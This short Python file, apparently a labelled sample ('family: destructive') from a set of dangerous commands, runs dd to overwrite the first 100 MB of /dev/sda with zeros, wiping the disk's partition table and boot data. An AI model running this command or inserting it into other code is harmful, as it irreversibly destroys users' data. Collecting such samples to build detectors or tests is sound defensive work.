# family: destructive
# zeroes the first disk with dd
import subprocess

subprocess.run("dd if=/dev/zero of=/dev/sda bs=1M count=100", shell=True)
